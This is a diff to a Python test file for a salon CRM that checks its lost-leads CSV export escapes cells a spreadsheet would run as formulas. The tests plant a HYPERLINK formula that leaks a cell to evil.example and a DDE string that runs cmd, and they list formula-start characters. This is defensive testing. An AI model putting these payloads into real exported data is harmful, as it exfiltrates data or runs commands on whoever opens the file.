@@ -8,19 +8,23 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from dataclasses import dataclass
 from datetime import timedelta
 from typing import Any
+from zoneinfo import ZoneInfo
 
 import aiohttp
 import pytest
 from sqlmodel import select
 
+from crm_store.analytics import Table
 from crm_store.appointments import Author, book, set_status
 from crm_store.db import transaction
-from crm_store.models import Client, Conversation, Staff
+from crm_store.models import Client, Conversation, Message, Staff
 from crm_store.staff import add_staff, hash_password
 from crm_store.timeutil import as_utc
+from hub.analytics_api import table_csv
 from tests.salon import RULES, Salon, build_salon, kyiv
 from tests.support import RunningHub, client_session, login, message_row
 
@@ -249,7 +253,7 @@ async def test_csv(hub: RunningHub) -> None:
     assert rows == [
         ["client_id", "name", "phone", "email", "channel", "conversation_id", "asked_at", "text",
          "last_reply_at"],
-        [str(w.taras), "Тарас Шевчук", "+380501112233", "", "webchat", str(w.webchat),
+        [str(w.taras), "Тарас Шевчук", "'+380501112233", "", "webchat", str(w.webchat),
          "2026-11-12T22:00:00+02:00", "What's the price of a haircut?",
          "2026-11-12T22:10:00+02:00"],
     ]  # fmt: skip
@@ -258,6 +262,78 @@ async def test_csv(hub: RunningHub) -> None:
     all_row = next(r for r in table if r["dimension"] == "all")
     assert (all_row["inquiries"], all_row["median_s"]) == ("1", "600")
     assert {r["key"] for r in table if r["dimension"] == "channel"} == {"webchat"}
+
+
+# Opening a CSV as a spreadsheet does: Excel, LibreOffice and Google Sheets run a cell that
+# starts with one of these as a formula (some drop a leading tab or carriage return first);
+# a plain number is read as that number.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
+
+
+def spreadsheet_cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+
+
+def formulas(cells: list[list[str]]) -> list[str]:
+    """The cells a spreadsheet would run."""
+    return [
+        cell
+        for row in cells
+        for cell in row
+        if cell.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(cell)
+    ]
+
+
+async def test_csv_download_has_no_cell_a_spreadsheet_would_run(hub: RunningHub) -> None:
+    w = await world(hub)
+    # What a visitor may type in the web chat as their name and their question.
+    name = '=HYPERLINK("https://evil.example/?d="&C2,"Call back")'
+    question = "@SUM(1+1)*cmd|' /C calc'!A0 what's the price?"
+    async with transaction(hub.hub.sessions) as session:
+        taras = await session.get(Client, w.taras)
+        assert taras is not None
+        taras.name = name
+        session.add(taras)
+        asked = (
+            await session.exec(
+                select(Message).where(
+                    Message.conversation_id == w.webchat, Message.direction == "in"
+                )
+            )
+        ).one()
+        asked.text = question
+        session.add(asked)
+    async with await signed(hub, "owner@salon.test") as owner:
+        url = f"{hub.base_url}/api/analytics/lost_leads.csv"
+        async with owner.get(url, params=NOVEMBER) as response:
+            assert response.status == 200
+            cells = spreadsheet_cells((await response.read()).decode("utf-8"))
+
+    assert formulas(cells) == []
+    lead = dict(zip(cells[0], cells[1], strict=True))
+    # The same text, which a spreadsheet shows as text and does not run.
+    assert (lead["name"], lead["text"]) == ("'" + name, "'" + question)
+    assert lead["phone"] == "'+380501112233"
+    assert lead["client_id"] == str(w.taras)
+
+
+def test_csv_quotes_every_formula_start_and_keeps_figures_numbers() -> None:
+    typed = ["=1+2", "+1+2", "-1+2", "@SUM(A1:A2)", "\t=1+2", "\r=1+2", "-5", "a=1"]
+    rows: list[dict[str, Any]] = [{"name": text, "conversation_id": -5} for text in typed]
+    rows.append({"name": "Олена", "conversation_id": -2.5, "client_id": -7.0})
+
+    cells = spreadsheet_cells(table_csv(Table("lost_leads", rows), ZoneInfo("Europe/Kyiv")))
+
+    assert formulas(cells) == []
+    header, *body = cells
+    names = [row[header.index("name")] for row in body]
+    assert names == [
+        "'=1+2", "'+1+2", "'-1+2", "'@SUM(A1:A2)", "'\t=1+2", "'\r=1+2", "'-5", "a=1", "Олена",
+    ]  # fmt: skip
+    # Figures the hub computed stay numbers, negative ones too.
+    assert [row[header.index("conversation_id")] for row in body] == ["-5"] * 8 + ["-2.5"]
+    assert body[-1][header.index("client_id")] == "-7"
 
 
 async def test_who_may_see_it(hub: RunningHub) -> None:
